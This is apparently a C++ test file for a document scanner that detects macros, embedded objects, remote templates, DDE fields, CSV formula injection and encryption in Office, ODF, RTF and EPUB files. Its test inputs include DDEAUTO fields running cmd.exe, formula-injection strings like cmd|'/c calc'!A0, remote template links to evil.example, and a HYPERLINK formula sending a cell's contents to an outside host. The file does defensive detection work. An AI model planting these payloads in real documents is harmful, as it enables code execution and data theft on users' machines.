// SPDX-License-Identifier: GPL-3.0-or-later
// Evasions D 75, E 76 to 78, 85, 87, each with what looks alike and passes.
#include "content/fields.h"
#include "content/test_files.h"

#include <gtest/gtest.h>

namespace pedell::content::testing
{
namespace
{

using namespace std::string_literals;

std::string relations(const std::string& type, const std::string& target,
                      const std::string& mode = "External")
{
    return "<Relationships "
           "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" "
           "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
           type + "\" Target=\"" + target + "\" TargetMode=\"" + mode + "\"/></Relationships>";
}

std::string runs(const std::vector<std::string>& instruction)
{
    std::string text = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    for (const std::string& part : instruction)
        text += "<w:r><w:instrText xml:space=\"preserve\">" + part + "</w:instrText></w:r>";
    return text + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
                  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
}

std::string rels(const std::string& type, const std::string& target)
{
    return docx("", {{"word/_rels/document.xml.rels", relations(type, target)}});
}

TEST(Office, MacrosAreFoundWhateverTheyAreCalled)
{
    const std::string project = ole({{"VBA/dir", "x"}, {"VBA/_VBA_PROJECT", "x"}, {"PROJECT", "x"}});
    expect({
        {"76 docm", "a.docm", docx("", {{"word/vbaProject.bin", project}}), "macro"},
        {"76 renamed docx", "a.docx", docx("", {{"word/vbaProject.bin", project}}), "macro"},
        {"76 renamed part", "a.docx", docx("", {{"word/media/x.bin", project}}), "macro"},
        {"76 content type", "a.docx",
         docx("", {{"word/x.xml", "<Types><Override PartName=\"/a\" "
                                  "ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"}}),
         "macro"},
        {"76 macro sheet", "a.xlsx", docx("", {{"xl/macrosheets/sheet1.xml", "<macrosheet/>"}}), "macro"},
        {"76 customUI", "a.docx",
         docx("",
              {{"customUI/customUI.xml",
                "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"x\"/>"}}),
         "macro"},
        {"76 old Word", "a.doc", ole({{"WordDocument", "x"}, {"Macros/VBA", "x"}}), "macro"},
        {"76 old Excel", "a.xls", ole({{"Workbook", "x"}, {"_VBA_PROJECT_CUR/x", "x"}}), "macro"},
        {"76 Excel 4", "a.xls", ole({{"Workbook", "\x85\0\x8\0\0\0\0\0\0\1\1\0"s}}), "macro"},
        {"76 Excel 5", "a.xls", ole({{"Book", "\x85\0\x8\0\0\0\0\0\0\1\1\0"s}}), "macro"},
        {"76 PowerPoint", "a.ppt", ole({{"PowerPoint Document", "\x0F\0\xFF\3\0\0\0\0"s}}), "macro"},
        {"76 presentation that calls one", "a.pptx",
         docx("", {{"ppt/slides/slide1.xml",
                    "<p:x xmlns:p=\"p\"><p:hlinkClick action=\"ppaction://macro?name=x\"/></p:x>"}}),
         "macro"},
        {"76 xlsb", "a.xlsb",
         docx("", {{"a.xml",
                    "<Types><Override "
                    "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>"}}),
         "not_supported"},
        {"76 Basic in ODF", "a.odt", odt("", {{"Basic/Standard/Module1.xml", "<a/>"}}), "macro"},
        {"76 script in ODF", "a.odt", odt("", {{"Scripts/python/a.py", "x"}}), "macro"},
        {"76 listener in ODF", "a.odt",
         odt("<script:event-listener script:language=\"ooo:script\" xlink:href=\"vnd.sun.star.script:a\"/>"),
         "macro"},
        {"76 trap: docm without", "a.docm", docx("<w:p/>"), ""},
        {"76 trap: charts only", "a.xls", ole({{"Workbook", "\x85\0\x8\0\0\0\0\0\0\0\1\0"s}}), ""},
        {"76 trap: the word", "a.docx", docx("<w:p><w:r><w:t>vbaProject macro</w:t></w:r></w:p>"), ""},
        {"76 trap: index without module", "a.odt",
         odt("", {{"Basic/script-lc.xml", "<a/>"}, {"Basic/Standard/script-lb.xml", "<a/>"}}), ""},
        {"76 trap: old Word", "a.doc", ole({{"WordDocument", std::string(64, 'x')}, {"1Table", "x"}}), ""},
    });
}

TEST(Office, ObjectsAreFound)
{
    expect({
        {"75 package", "a.docx",
         docx("", {{"word/embeddings/oleObject1.bin", ole({{"\1Ole10Native", "x"}})}}), "embedded_object"},
        {"75 program", "a.docx", docx("", {{"word/embeddings/a.bin", "MZ\x90\0\3"s}}), "[program]"},
        {"75 ActiveX", "a.docx", docx("", {{"word/activeX/activeX1.xml", "<a/>"}}), "embedded_object"},
        {"75 equation", "a.doc", ole({{"WordDocument", "x"}, {"ObjectPool/Equation Native", "x"}}),
         "embedded_object"},
        {"75 unknown bytes", "a.docx", docx("", {{"word/embeddings/a.bin", "\1\2\3\4"s}}), "[unknown]"},
        {"75 trap: a box to tick", "a.xlsx",
         docx("", {{"xl/s.xml", "<x xmlns:r=\"r\"><control shapeId=\"1\" r:id=\"r1\"/></x>"},
                   {"xl/_rels/s.xml.rels", relations("ctrlProp", "../ctrlProps/c.xml", "Internal")}}),
         ""},
        {"75 control", "a.xlsx",
         docx("", {{"xl/_rels/s.xml.rels", relations("control", "../x.xml", "Internal")}}),
         "embedded_object"},
        {"75 trap: chart with its sheet", "a.docx", docx("", {{"word/embeddings/a.xlsx", docx("")}}), ""},
        {"75 trap: printer's settings", "a.xlsx",
         docx("", {{"xl/printerSettings/printerSettings1.bin", "\1\2\3"s}}), ""},
        {"75 trap: pictures", "a.docx", docx("", {{"word/media/image1.png", png(3, 3)}}), ""},
        {"75 trap: ODF with picture", "a.odt",
         odt("<draw:image xlink:href=\"Pictures/1.png\"/>", {{"Pictures/1.png", png(3, 3)}}), ""},
    });
}

TEST(Office, WhatIsFetchedIsFound)
{
    expect({
        {"77 template", "a.docx", rels("attachedTemplate", "https://evil.example/a.dotm"), "remote_content"},
        {"77 template on a server", "a.docx", rels("attachedTemplate", "\\\\192.0.2.1\\a.dotm"),
         "remote_content"},
        {"77 template as file", "a.docx", rels("attachedTemplate", "file://evil.example/a.dotm"),
         "remote_content"},
        {"77 OLE link", "a.docx", rels("oleObject", "mhtml:http://evil.example/x!x-usc:http://y"),
         "remote_content"},
        {"77 frame", "a.docx", rels("frame", "http://evil.example/"), "remote_content"},
        {"77 picture", "a.docx", rels("image", "http://evil.example/a.png"), "remote_content"},
        {"77 no mode said", "a.docx",
         docx("", {{"word/_rels/x.rels", relations("image", "http://x/", "Internal")}}), "remote_content"},
        {"77 ODF picture", "a.odt", odt("<draw:image xlink:href=\"http://evil.example/a.png\"/>"),
         "remote_content"},
        {"77 ODF frame", "a.odt", odt("<draw:floating-frame xlink:href=\"http://evil.example/\"/>"),
         "remote_content"},
        {"77 includepicture", "a.docx", docx(runs({" INCLUDEPICTURE \"http://evil.example/a.png\" \\d "})),
         "remote_content"},
        {"77 trap: hyperlink", "a.docx", rels("hyperlink", "https://www.schule.de/"), ""},
        {"77 trap: the author's template", "a.docx",
         rels("attachedTemplate", "file:///C:\\Users\\a\\Vorlagen\\Brief.dotx"), ""},
        {"77 trap: linked workbook", "a.xlsx", rels("externalLinkPath", "Noten.xlsx"), ""},
    });
}

TEST(Office, DdeIsFound)
{
    expect({
        {"77 ddeauto", "a.docx", docx(runs({" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "})),
         "dynamic_data"},
        {"77 split over runs", "a.docx", docx(runs({" D", "DE", "AU", "TO cmd x "})), "dynamic_data"},
        {"77 outside of any field", "a.docx",
         docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO a "
              "b</w:instrText></w:r></w:p>"),
         "dynamic_data"},
        {"77 csv that carries a cell away", "a.csv", "=HYPERLINK(\"http://x.example/?\"&A1;\"x\")\n",
         "dynamic_data"},
        {"77 trap: link in a workbook", "a.xlsx",
         docx("", {{"xl/s.xml", "<x><c><f>HYPERLINK(\"https://schule.de/\",\"Schule\")</f></c></x>"}}), ""},
        {"75 page as a part", "a.docx", docx("", {{"word/chunk.html", "<html><script>x</script></html>"}}),
         "html_active"},
        {"75 page called XML", "a.docx", docx("", {{"word/chunk.xml", "<html><script>x</script></html>"}}),
         "html_active"},
        {"77 simple", "a.docx", docx("<w:p><w:fldSimple w:instr=\" dde cmd x\"/></w:p>"), "dynamic_data"},
        {"77 quote", "a.docx", docx(runs({" QUOTE 68 68 69 65 85 84 79 "})), "dynamic_data"},
        {"77 renamed part", "a.docx",
         docx("", {{"word/x.foo", "<w:d xmlns:w=\"w\">" + runs({"DDEAUTO a b"}) + "</w:d>"}}),
         "dynamic_data"},
        {"77 UTF-16 part", "a.docx",
         docx("", {{"word/x.xml",
                    [] {
                        std::string wide = "\xFF\xFE";
                        for (const char c :
                             "<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:d xmlns:w=\"w\">"s +
                                 runs({"DDE a"}) + "</w:d>")
                            wide += {c, '\0'};
                        return wide;
                    }()}}),
         "dynamic_data"},
        {"77 workbook", "a.xlsx",
         docx("", {{"xl/externalLinks/e.xml", "<x><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></x>"}}),
         "dynamic_data"},
        {"77 formula", "a.xlsx", docx("", {{"xl/s.xml", "<x><c><f>cmd|'/c calc'!A0</f></c></x>"}}),
         "dynamic_data"},
        {"77 webservice", "a.xlsx",
         docx("", {{"xl/s.xml", "<x><c><f>WEBSERVICE(\"http://x/\"&amp;A1)</f></c></x>"}}), "remote_content"},
        {"77 old Word", "a.doc", ole({{"WordDocument", std::string(600, ' ') + "\x13 DDEAUTO cmd"s}}),
         "dynamic_data"},
        {"77 csv", "a.csv", "Name;Note\n=cmd|'/c calc'!A0;1\n", "dynamic_data"},
        {"77 csv quoted", "a.csv", "\"Name\",\"@SUM(1+1)*cmd|'/c calc'!A0\"\n", "dynamic_data"},
        {"77 csv fetches", "a.csv", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")\n", "remote_content"},
        {"77 trap: page number", "a.docx", docx(runs({" PAGE "})), ""},
        {"77 trap: contents", "a.docx", docx(runs({" TOC \\o \"1-3\" \\h \\z "})), ""},
        {"77 trap: the letters", "a.docx", docx("<w:p><w:r><w:t>DDEAUTO</w:t></w:r></w:p>"), ""},
        {"77 trap: csv", "a.csv", "-3,5;+49 221 1234;=A1+B1;=SUMME(A1:A3)\na|b!;c\n", ""},
        {"77 trap: formula", "a.xlsx",
         docx("", {{"xl/s.xml", "<x><c><f>IF(A1&gt;3,\"a|b\",Tabelle!B2)</f></c></x>"}}), ""},
    });
}

TEST(Office, EncryptedIsFound)
{
    expect({
        {"87 OOXML", "a.docx", ole({{"EncryptedPackage", "x"}, {"EncryptionInfo", "x"}}),
         "document_encrypted"},
        {"87 old Word", "a.doc",
         ole({{"WordDocument", std::string(10, '\0') + "\0\1"s + std::string(50, '\0')}}),
         "document_encrypted"},
        {"87 old Excel", "a.xls", ole({{"Workbook", "\x2F\0\x36\0"s + std::string(54, '\1')}}),
         "document_encrypted"},
        {"87 ODF", "a.odt", odt("", {{"META-INF/manifest.xml", "<m><manifest:encryption-data/></m>"}}),
         "document_encrypted"},
        {"87 trap: protection", "a.docx",
         docx("", {{"word/settings.xml",
                    "<w:s xmlns:w=\"w\"><w:documentProtection w:edit=\"readOnly\"/></w:s>"}}),
         ""},
        {"85 msg", "a.msg", ole({{"__properties_version1.0", "x"}, {"__substg1.0_001A001E", "IPM.Note"}}),
         "not_supported"},
        {"73 msi", "a.msi", ole({{"x", "y"}}), "[program] name_active not_supported"},
    });
}

TEST(Office, RtfObjectsAreFound)
{
    expect({
        {"78 objdata", "a.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "embedded_object"},
        {"78 named doc", "a.doc", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "embedded_object"},
        {"78 short head", "a.rtf", "{\\rt{\\*\\objdata 0105}}", "embedded_object"},
        {"78 obfuscated", "a.rtf", "{\\rtf1{\\*\\pn{\\object{\\*\\objdata\\bin5 \0\0}}\\0105}}}"s,
         "embedded_object not_readable"},
        {"78 template", "a.rtf", "{\\rtf1{\\*\\template http://evil.example/a.dot}}", "remote_content"},
        {"78 dde", "a.rtf", "{\\rtf1{\\field{\\*\\fldinst {D}{DEAUTO cmd x}}{\\fldrslt x}}}", "dynamic_data"},
        {"78 unfinished", "a.rtf", "{\\rtf1{\\b x}", "not_readable"},
        {"78 trap: picture", "a.rtf", "{\\rtf1\\ansi{\\pict\\pngblip 89504e47}Hallo\\par}", ""},
        {"78 trap: link", "a.rtf",
         "{\\rtf1{\\field{\\*\\fldinst{HYPERLINK \"https://schule.de\"}}{\\fldrslt x}}}", ""},
    });
}

TEST(Office, BooksAreLookedInto)
{
    expect({
        {"80 epub with script", "a.epub", epub("<html><script>x</script></html>"), "html_active"},
        {"87 epub with a lock", "a.epub",
         epub("<html/>",
              {{"META-INF/encryption.xml", "<e><EncryptedData><EncryptionMethod Algorithm=\"http://aes\"/>"
                                           "<CipherReference URI=\"OEBPS/a.xhtml\"/></EncryptedData></e>"}}),
         "document_encrypted"},
        {"80 trap: epub", "a.epub", epub("<html><head><title>x</title></head><body><p>x</p></body></html>"),
         ""},
        {"80 trap: fonts", "a.epub",
         epub("<html/>",
              {{"META-INF/encryption.xml",
                "<e><EncryptedData><EncryptionMethod Algorithm=\"http://www.idpf.org/2008/embedding\"/>"
                "<CipherReference URI=\"OEBPS/f.otf\"/></EncryptedData></e>"},
               {"OEBPS/f.otf", "\1\2\3\4"s}}),
         ""},
    });
}

TEST(Office, TargetsThatLeadAway)
{
    for (const std::string target :
         {"http://x/", "HTTPS://x", "\\\\x\\y", "//x/y", "file://x/y", "file:////x/y", "file:///\\\\x\\y",
          "mhtml:http://x", "ms-word:ofe|u|http://x", " http://x"})
        EXPECT_TRUE(leads_away(target)) << target;
    for (const std::string target : {"", "a.docx", "../a.png", "#anker", "C:\\a.dotx", "file:///C:\\a.dotx",
                                     "file:///C:/Eigene%20Dateien/a.dot", "media/image1.png", "file:a.docx"})
        EXPECT_FALSE(leads_away(target)) << target;
}

} // namespace
} // namespace pedell::content::testing
